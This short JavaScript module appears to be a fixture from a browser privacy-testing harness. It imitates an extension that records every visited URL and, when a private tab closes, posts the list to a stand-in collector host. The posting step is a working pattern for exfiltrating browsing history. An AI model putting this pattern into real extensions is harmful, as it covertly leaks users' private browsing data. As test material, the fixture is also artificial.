import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports addresses when the private tab is closed. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-after-private');
  let visited = [];
  onVisit(browser, ({ url }) => {
    visited.push(url);
  });
  browser.on('privateClosed', async () => {
    if (visited.length > 0) await post(browser, 'https://closed.collector.example/v1', { visited });
    visited = [];
  });
}
